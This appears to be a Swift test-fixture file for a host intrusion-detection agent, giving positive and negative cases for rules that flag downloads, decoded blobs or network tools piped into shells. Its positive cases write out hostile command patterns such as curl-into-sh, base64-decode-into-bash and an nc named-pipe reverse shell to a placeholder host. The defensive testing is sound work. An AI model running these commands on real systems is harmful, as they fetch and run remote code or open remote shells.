import MamoriEvents

/// Fixtures of the `pipeline` rules: a shell or interpreter whose stdin pipe is written by another
/// exec'd process (the agent joins them by pipe inode; `Actor.execPiped` gives the joined writer).
extension Fixtures {
    static let pipelines: [RuleFixture] = [
        RuleFixture("pipe-downloader-into-interpreter",
            positives: [
                Case("typed at a root prompt: curl -s http://host/x | sh",
                     Actor(Proc("/usr/bin/dash", ["sh"]), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/curl", "curl -s http://198.51.100.9/x"))),
                Case("wget -qO- url | sudo bash (the bash below sudo reads the pipe)",
                     Actor(Proc("/usr/bin/bash", ["bash"]), in: Trees.userLogin.spawning(Proc.line("/usr/bin/sudo", "sudo bash")))
                        .execPiped(from: Proc.line("/usr/bin/wget", "wget -qO- http://198.51.100.9/i.sh", uid: 1000))),
                Case("curl url | python3 -",
                     Actor(Proc("/usr/bin/python3.11", ["python3", "-"], uid: 1000), in: Trees.userLogin)
                        .execPiped(from: Proc.line("/usr/bin/curl", "curl -fsSL http://198.51.100.9/p.py", uid: 1000))),
                Case("curl url | bash -s -- --token x (arguments for the downloaded script)",
                     Actor(Proc("/usr/bin/bash", ["bash", "-s", "--", "--token", "x"]), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/curl", "curl -sL http://198.51.100.9/setup"))),
            ],
            negatives: [
                Case("curl api | python3 -m json.tool (pretty-printing)",
                     Actor(Proc("/usr/bin/python3.11", ["python3", "-m", "json.tool"], uid: 1000), in: Trees.userLogin)
                        .execPiped(from: Proc.line("/usr/bin/curl", "curl -s http://127.0.0.1:8080/api", uid: 1000))),
                Case("curl url | sh -c 'cat > file' (the shell runs its own command)",
                     Actor(Proc.shell("cat > /tmp/out"), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/curl", "curl -s http://127.0.0.1/x"))),
                Case("a pager (less) reading curl output",
                     Actor(Proc.line("/usr/bin/less", "less"), in: Trees.userLogin)
                        .execPiped(from: Proc.line("/usr/bin/curl", "curl -s http://127.0.0.1/x", uid: 1000))),
                Case("cat script | sh (a local file, not a download)",
                     Actor(Proc("/usr/bin/dash", ["sh"]), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/cat", "cat ./install.sh"))),
            ]),

        RuleFixture("pipe-decoder-into-interpreter",
            positives: [
                Case("echo <blob> | base64 -d | bash",
                     Actor(Proc("/usr/bin/bash", ["bash"]), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/base64", "base64 -d"))),
                Case("xxd -r -p | sh",
                     Actor(Proc("/usr/bin/dash", ["sh"]), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/xxd", "xxd -r -p"))),
                Case("openssl base64 -d | python3",
                     Actor(Proc("/usr/bin/python3.11", ["python3"]), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/openssl", "openssl base64 -d"))),
            ],
            negatives: [
                Case("base64 -d | tar x (an archive, not a program)",
                     Actor(Proc.line("/usr/bin/tar", "tar x"), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/base64", "base64 -d"))),
                Case("zcat dump.sql.gz | psql (a database client)",
                     Actor(Proc.line("/usr/bin/psql", "psql app"), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/zcat", "zcat dump.sql.gz"))),
            ]),

        RuleFixture("pipe-network-tool-into-shell",
            positives: [
                Case("named-pipe reverse shell: sh -i < f | nc host port > f",
                     Actor(Proc("/usr/bin/dash", ["sh", "-i"], uid: 33), in: Trees.webShell)
                        .execPiped(from: Proc.line("/usr/bin/nc.openbsd", "nc 203.0.113.7 4444", uid: 33)),
                     also: ["web-server-spawns-shell"]),
                Case("nc -l port | bash",
                     Actor(Proc("/usr/bin/bash", ["bash"]), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/ncat", "ncat -l 9001"))),
            ],
            negatives: [
                Case("nc host port | tee capture (not a shell)",
                     Actor(Proc.line("/usr/bin/tee", "tee capture"), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/nc.openbsd", "nc 127.0.0.1 25"))),
                Case("a shell running an inline command reading nc output",
                     Actor(Proc.shell("grep -c OK"), in: Trees.rootLogin)
                        .execPiped(from: Proc.line("/usr/bin/nc.openbsd", "nc -z 127.0.0.1 22"))),
            ]),
    ]
}
